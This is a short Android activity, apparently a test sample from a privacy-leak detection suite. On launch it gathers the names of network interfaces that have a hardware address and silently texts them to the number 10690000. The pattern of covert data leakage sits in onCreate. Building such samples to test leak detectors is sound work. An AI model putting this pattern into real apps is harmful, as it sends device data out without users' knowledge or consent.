package cn.privlens.suite.interface_name_only;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.Collections;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder all = new StringBuilder();
        try {
            for (java.net.NetworkInterface one : Collections.list(java.net.NetworkInterface.getNetworkInterfaces())) {
                byte[] address = one.getHardwareAddress();
                if (address != null) {
                    all.append(one.getName());
                }
            }
        } catch (java.net.SocketException e) {
            setTitle("e");
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, all.toString(), null, null);
    }
}
